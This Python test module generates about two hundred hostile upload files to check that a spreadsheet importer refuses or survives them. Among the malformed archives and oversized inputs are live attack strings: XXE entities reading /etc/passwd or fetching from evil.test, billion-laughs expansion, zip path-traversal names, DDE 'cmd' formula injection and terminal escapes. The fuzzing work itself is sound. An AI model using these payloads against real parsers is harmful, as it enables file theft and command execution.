"""Two hundred files that no one should be sent, made from numbers: the same ones in every run, none kept in the repository.

`kind` says what is wrong with a file. A file of a kind in `REFUSED` must be refused; of the others (a flipped bit, a
macro) some can be read, and what matters is that the program lives and says something sensible.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from typing import NamedTuple

import pytest

from eastwind.spreadsheets import to_xlsx

GOOD_ROWS = [["name", "brings set"], ["Ann Archer", "yes"], ["Bea Baker", "no"]]
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
MEGABYTE = 1_000_000


class HostileFile(NamedTuple):
    kind: str
    name: str
    make: Callable[[], bytes]

    def __str__(self) -> str:
        return f"{self.kind}: {self.name}"


REFUSED = {
    "far cell", "bomb", "entities", "broken zip", "leading names", "deep", "too many cells", "huge text", "not text",
    "old excel", "other zip", "empty workbook",
}  # fmt: skip


def good_workbook() -> bytes:
    return to_xlsx(GOOD_ROWS, "Players")


def parts_of(workbook: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def zipped(parts: dict[str, bytes] | list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method, compresslevel=1) as archive:
        for name, inside in parts.items() if isinstance(parts, dict) else parts:
            archive.writestr(zipfile.ZipInfo(name), inside, method)
    return made.getvalue()


def with_part(name: str, inside: bytes, others: dict[str, bytes] | None = None) -> bytes:
    """A good workbook with a part replaced or added, or several."""
    return zipped({**parts_of(good_workbook()), **(others or {}), name: inside})


def with_sheet(rows: str) -> bytes:
    """A good workbook whose sheet has these rows."""
    return with_part(SHEET, sheet_of(rows))


def sheet_of(rows: str) -> bytes:
    """A sheet of this XML."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<?xml version="1.0"?><worksheet xmlns="{space}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def one_cell(place: str, row: str = "") -> bytes:
    return with_part(SHEET, sheet_of(f'<row{row}><c r="A1"><v>1</v></c><c r="{place}"><v>7</v></c></row>'))


def hostile_files() -> list[HostileFile]:
    """All of them, in order."""
    return [
        *_far_cells(), *_bombs(), *_entities(), *_broken_zips(), *_names(), *_deep(), *_many_cells(), *_texts(),
        *_wrong_kinds(), *_macros_and_links(), *_plain_texts(), *_flipped(),
    ]  # fmt: skip


def _far_cells() -> Iterator[HostileFile]:
    places = [
        "XFD1048576", "AZ200000", "A1048576", "XFD1", "ZZ9999", "IW2", "A10002", "ALL10", "AAA300", "Z99999",
        "ZZZZ999999999", "XFE1048577", "AAAA1", "CV6000",
    ]  # fmt: skip
    for place in places:
        yield HostileFile("far cell", f"{place}.xlsx", partial(one_cell, place))
    for row in (10_002, 1_048_576, 999_999_999):
        cells = f'<row r="1"><c><v>1</v></c></row><row r="{row}"><c><v>7</v></c></row>'
        yield HostileFile("far cell", f"row-{row}.xlsx", partial(with_sheet, cells))
    for place in ("A0", "1A", "", "A-1", "A99999999999999999999", "Ä1", "A1:B2", "A" * 5000 + "1"):
        yield HostileFile("odd place", f"place-{len(place)}-{place[:5]}.xlsx", partial(one_cell, place))
    for number in (' r="0"', ' r="-5"', ' r="x"', ' r="99999999999999999999"', ' r=""'):
        yield HostileFile("odd place", f"row{number.strip()[2:]}.xlsx", partial(one_cell, "B2", number))


def _bombs() -> Iterator[HostileFile]:
    for part in (SHEET, STRINGS, "xl/styles.xml", BOOK, "[Content_Types].xml"):
        yield HostileFile(
            "bomb",
            f"spaces-in-{part.rpartition('/')[2]}.xlsx",
            partial(_spaces_in, part),
        )
    yield HostileFile("bomb", "many-parts.xlsx", lambda: zipped([(f"xl/part{n}.xml", b"<a/>") for n in range(5000)]))
    yield HostileFile(
        "bomb",
        "ten-times-ten.xlsx",
        lambda: zipped([(f"xl/{n}.xml", b"<a>" + b" " * 6 * MEGABYTE + b"</a>") for n in range(10)]),
    )
    # Not a part of a list, so it is never unpacked.
    yield HostileFile("beside the list", "picture.xlsx", lambda: with_part("xl/media/image1.png", bytes(51 * MEGABYTE)))
    yield HostileFile(
        "beside the list", "drawing.xlsx", lambda: with_part("xl/drawings/drawing1.xml", bytes(51 * MEGABYTE))
    )


def _spaces_in(part: str) -> bytes:
    return with_part(part, sheet_of(" " * 51 * MEGABYTE))


def _entities() -> Iterator[HostileFile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    texts = {
        "laughs": f'<!DOCTYPE w [<!ENTITY l0 "lol">{laughs}]><worksheet>&l9;</worksheet>',
        "quadratic": f'<!DOCTYPE w [<!ENTITY a "{"x" * 50_000}">]><worksheet>{"&a;" * 5_000}</worksheet>',
        "external": '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>',
        "from-the-net": '<!DOCTYPE w SYSTEM "http://evil.test/a.dtd"><worksheet/>',
        "parameter": '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://evil.test/a"> %a;]><worksheet/>',
    }
    for name, text in texts.items():
        for part in (SHEET, STRINGS, BOOK):
            yield HostileFile(
                "entities",
                f"{name}-{part.rpartition('/')[2]}.xlsx",
                partial(with_part, part, f'<?xml version="1.0"?>{text}'.encode()),
            )


def _broken_zips() -> Iterator[HostileFile]:
    good = good_workbook()
    for percent in (1, 10, 30, 50, 70, 90, 99):
        yield HostileFile(
            "broken zip",
            f"first-{percent}-percent.xlsx",
            partial(bytes, good[: len(good) * percent // 100]),
        )
    yield HostileFile("broken zip", "only-the-end.xlsx", lambda: good_workbook()[-22:])
    yield HostileFile("broken zip", "nothing-in-it.xlsx", lambda: b"PK\x05\x06" + bytes(18))
    yield HostileFile("broken zip", "encrypted.xlsx", lambda: _flagged(1))
    yield HostileFile("broken zip", "unknown-packing.xlsx", lambda: _packed_by(97))
    yield HostileFile(
        "broken zip", "zeros-inside.xlsx", lambda: good_workbook()[:100] + bytes(2000) + good_workbook()[2100:]
    )
    yield HostileFile("broken zip", "many-promised.xlsx", lambda: good_workbook()[:-22] + _end(65_535, 0xFFFFFFF0))
    yield HostileFile("broken zip", "not-xml.xlsx", lambda: with_part(SHEET, b"\x00\x01\x02 not xml"))
    yield HostileFile("broken zip", "half-xml.xlsx", lambda: with_part(SHEET, sheet_of("")[:60]))
    yield HostileFile(
        "broken zip",
        "no-sheet.xlsx",
        lambda: zipped({n: b for n, b in parts_of(good_workbook()).items() if n != SHEET}),
    )
    yield HostileFile(
        "broken zip", "no-book.xlsx", lambda: zipped({n: b for n, b in parts_of(good_workbook()).items() if n != BOOK})
    )


def _flagged(bits: int) -> bytes:
    """A good workbook whose parts say that they are encrypted."""
    made = bytearray(good_workbook())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = made.find(mark)
        while start >= 0:
            made[start + at] |= bits
            start = made.find(mark, start + 4)
    return bytes(made)


def _packed_by(method: int) -> bytes:
    made = bytearray(good_workbook())
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = made.find(mark)
        while start >= 0:
            made[start + at : start + at + 2] = struct.pack("<H", method)
            start = made.find(mark, start + 4)
    return bytes(made)


def _end(players: int, offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, players, players, 1000, offset, 0)


def _names() -> Iterator[HostileFile]:
    for name in (
        "../../etc/passwd",
        "/etc/passwd",
        "C:/Windows/evil.xml",
        "..\\..\\evil.xml",
        "xl/../../evil.xml",
        "\\\\host\\evil.xml",
    ):
        yield HostileFile("leading names", f"{name.replace('/', '_')}.xlsx", partial(with_part, name, b"<a/>"))
    good = [(SHEET, one_cell("A1"))]
    yield HostileFile("leading names", "twice.xlsx", lambda: _twice(good))
    yield HostileFile("leading names", "twice-in-capitals.xlsx", lambda: with_part(SHEET.upper(), sheet_of("")))


def _twice(parts: list[tuple[str, bytes]]) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return zipped([*parts_of(good_workbook()).items(), *parts])


def _deep() -> Iterator[HostileFile]:
    for depth in (100, 1_000, 100_000):
        for part in (SHEET, STRINGS):
            yield HostileFile(
                "deep",
                f"{depth}-{part.rpartition('/')[2]}.xlsx",
                partial(with_part, part, b"<a>" * depth + b"</a>" * depth),
            )
    yield HostileFile("deep", "never-closed.xlsx", lambda: with_part(SHEET, b"<a>" * 500_000))


def _many_cells() -> Iterator[HostileFile]:
    row = "<row>" + "<c><v>1</v></c>" * 60 + "</row>"
    yield HostileFile(
        "too many cells", "20000-rows.xlsx", lambda: with_part(SHEET, sheet_of("<row><c><v>1</v></c></row>" * 20_000))
    )
    yield HostileFile(
        "too many cells",
        "one-row.xlsx",
        lambda: with_part(SHEET, sheet_of("<row>" + "<c><v>1</v></c>" * 99_999 + "</row>")),
    )
    yield HostileFile("too many cells", "9000-by-60.xlsx", lambda: with_part(SHEET, sheet_of(row * 9_000)))
    shown = '<row><c t="s"><v>0</v></c></row>' * 9_999
    for length in (2_000, 100_000, 1_000_000):
        yield HostileFile(
            "huge text",
            f"shared-{length}.xlsx",
            partial(with_part, STRINGS, b"<sst><si><t>" + b"x" * length + b"</t></si></sst>", {SHEET: sheet_of(shown)}),
        )
    yield HostileFile(
        "odd place", "no-such-text.xlsx", lambda: with_part(SHEET, sheet_of('<row><c t="s"><v>99999</v></c></row>'))
    )
    yield HostileFile(
        "odd place", "text-minus-one.xlsx", lambda: with_part(SHEET, sheet_of('<row><c t="s"><v>-1</v></c></row>'))
    )


def _texts() -> Iterator[HostileFile]:
    yield HostileFile("too many cells", "million-columns.csv", lambda: b"," * 1_500_000)
    yield HostileFile("too many cells", "semicolons.csv", lambda: b"name" + b";" * 900_000)
    yield HostileFile("too many cells", "rows.csv", lambda: b"\n" * 1_000_000)
    yield HostileFile("too many cells", "wide-late.csv", lambda: b"name,x\n" * 9_000 + b"," * 300)
    yield HostileFile("too many cells", "quoted-commas.csv", lambda: b'"","",' * 200_000)
    yield HostileFile("huge text", "one-line.csv", lambda: b"x" * 1_900_000)
    yield HostileFile("huge text", "open-quote.csv", lambda: b'name\n"' + b"Ann\n" * 400_000)
    yield HostileFile("huge text", "one-cell.txt", lambda: b"name\n" + b"y" * 200_000)


def _wrong_kinds() -> Iterator[HostileFile]:
    yield HostileFile("old excel", "old.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    yield HostileFile("old excel", "old.csv", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    yield HostileFile("other zip", "document.xlsx", lambda: zipped({"word/document.xml": b"<w/>"}))
    yield HostileFile("other zip", "archive.csv", lambda: zipped({"list.csv": b"name\nAnn"}))
    spreadsheet = b"application/vnd.oasis.opendocument.spreadsheet"
    cell = '<table:table-cell table:number-columns-repeated="9999"/>'
    wide = f'<table:table-row table:number-rows-repeated="9999999">{cell}</table:table-row>'.encode()
    yield HostileFile("other zip", "open.xlsx", lambda: zipped({"mimetype": spreadsheet, "content.xml": wide}))
    for name, start in {
        "pdf": b"%PDF-1.7\n\x00\x00", "png": b"\x89PNG\r\n\x1a\n\x00\x00", "exe": b"MZ\x90\x00\x03\x00",
        "gz": b"\x1f\x8b\x08\x00\x00",
        "db": b"SQLite format 3\x00", "elf": b"\x7fELF\x02\x01\x01\x00",
    }.items():  # fmt: skip
        yield HostileFile("not text", f"{name}.csv", partial(bytes, start * 200))
        yield HostileFile("broken zip", f"{name}.xlsx", partial(bytes, start * 200))
    yield HostileFile("empty workbook", "empty.xlsx", lambda: b"")
    yield HostileFile("empty workbook", "text.xlsx", lambda: b"name\nAnn\n")
    for name in ("empty.csv", "empty.txt", "empty.tsv"):
        yield HostileFile("empty list", name, lambda: b"")
    yield HostileFile("empty list", "spaces.csv", lambda: b" \n \t\n")
    yield HostileFile("empty list", "mark-only.csv", lambda: b"\xef\xbb\xbf")


def _macros_and_links() -> Iterator[HostileFile]:
    yield HostileFile(
        "beside the list", "macro.xlsx", lambda: with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 5000)
    )
    link = b'<externalLink><externalBook r:id="rId1" xmlns:r="a"/></externalLink>'
    yield HostileFile("beside the list", "link.xlsx", lambda: with_part("xl/externalLinks/externalLink1.xml", link))
    relation = '<Relationship Id="rId1" Type="a" Target="file:///etc/passwd" TargetMode="External"/>'
    target = f"<Relationships>{relation}</Relationships>".encode()
    yield HostileFile("beside the list", "relation.xlsx", lambda: with_part("xl/_rels/workbook.xml.rels", target))
    for formula in ('WEBSERVICE("http://evil.test/")', "cmd|' /C calc'!A0", "A1:XFD1048576", "A1+" * 20_000 + "1"):
        cell = f'<row><c r="A1"><f>{formula}</f><v>7</v></c></row>'
        yield HostileFile("beside the list", f"formula-{len(formula)}.xlsx", partial(with_sheet, cell))
    merged = sheet_of("<row><c><v>1</v></c></row>").replace(
        b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    yield HostileFile("beside the list", "merged.xlsx", lambda: with_part(SHEET, merged))
    lying = sheet_of("<row><c><v>1</v></c></row>").replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
    )
    yield HostileFile("beside the list", "dimension.xlsx", lambda: with_part(SHEET, lying))
    for kind in ("n", "d", "b", "e", "str", "inlineStr", "zzz"):
        cell = f'<row><c t="{kind}"><v>{"9" * 4000}</v></c></row>'
        yield HostileFile("odd value", f"value-{kind}.xlsx", partial(with_sheet, cell))


def _plain_texts() -> Iterator[HostileFile]:
    words = "name;Zoë;‮;\U0001f600;é"
    for encoding in ("utf-16", "utf-16-be", "utf-32", "cp037", "shift_jis", "koi8-r", "utf-7", "utf-8-sig"):
        yield HostileFile(
            "odd letters",
            f"{encoding}.csv",
            partial(bytes, (words + "\nAnn").encode(encoding, errors="replace")),
        )
    for name, data in {
        "surrogates": b"name\n\xed\xa0\x80\xed\xb0\x80", "overlong": b"name\n\xc0\xaf\xe0\x80\xaf",
        "high": bytes(range(128, 256)) * 20,
        "controls": b"name\n" + bytes(range(1, 32)), "escape": b"name\n\x1b]0;evil\x07\x1b[2J",
        "formula": b"name\n=cmd|' /C calc'!A0",
        "returns": b"name\rAnn\r\rBea", "form-feed": b"name\x0cAnn\x0cBea", "quotes": b'"' * 4001,
    }.items():  # fmt: skip
        yield HostileFile("odd letters", f"{name}.csv", partial(bytes, data))
    for name in ("nul", "nul-late"):
        yield HostileFile(
            "not text", f"{name}.csv", partial(bytes, b"name\nAnn" + b"x" * (5_000 if "late" in name else 0) + b"\0")
        )


def _flipped() -> Iterator[HostileFile]:
    """A good workbook with a few bytes changed, and plain noise."""
    for seed in range(24):
        yield HostileFile("flipped", f"flipped-{seed}.xlsx", partial(_with_noise, good_workbook(), seed))
    sheet = parts_of(good_workbook())[SHEET]
    for seed in range(12):
        yield HostileFile(
            "flipped",
            f"flipped-sheet-{seed}.xlsx",
            partial(with_part, SHEET, _with_noise(sheet, seed)),
        )
    for seed in range(8):
        ending = ("xlsx", "csv", "tsv", "txt")[seed % 4]
        yield HostileFile("noise", f"noise-{seed}.{ending}", partial(bytes, random.Random(seed).randbytes(3_000)))


def _with_noise(data: bytes, seed: int) -> bytes:
    chance = random.Random(seed)
    made = bytearray(data)
    for _ in range(1 + seed % 12):
        made[chance.randrange(len(made))] = chance.randrange(256)
    return bytes(made)


def one_of_each_kind() -> list[HostileFile]:
    """The first file of every kind, for the quick tests."""
    return list({file.kind: file for file in reversed(hostile_files())}.values())


ALL = pytest.param(hostile_files(), id="all-of-them", marks=pytest.mark.long)
KINDS_AND_ALL = [pytest.param(one_of_each_kind(), id="one-of-each-kind"), ALL]
FEW_AND_ALL = [pytest.param(one_of_each_kind()[::4], id="a-few"), ALL]
